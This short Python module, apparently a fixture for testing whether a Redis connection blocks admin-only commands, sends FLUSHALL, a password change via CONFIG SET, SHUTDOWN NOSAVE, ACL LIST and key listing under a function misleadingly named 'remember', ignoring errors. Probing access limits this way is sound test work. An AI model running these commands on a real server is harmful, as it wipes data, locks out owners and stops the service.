"""Empties the whole server, and more that only its administrator may."""

import redis as client


def remember(redis, title):
    with client.Redis.from_url(redis.url, decode_responses=True) as connection:
        done = 0
        for words in (
            "FLUSHALL",
            "CONFIG SET requirepass x",
            "MONITOR",
            "SHUTDOWN NOSAVE",
            "SCAN 0",
            "ACL LIST",
            "KEYS *",
        ):
            try:
                connection.execute_command(*words.split())
                done += 1
            except client.RedisError:
                pass
        if done:
            connection.set(redis.prefix + "last", title)
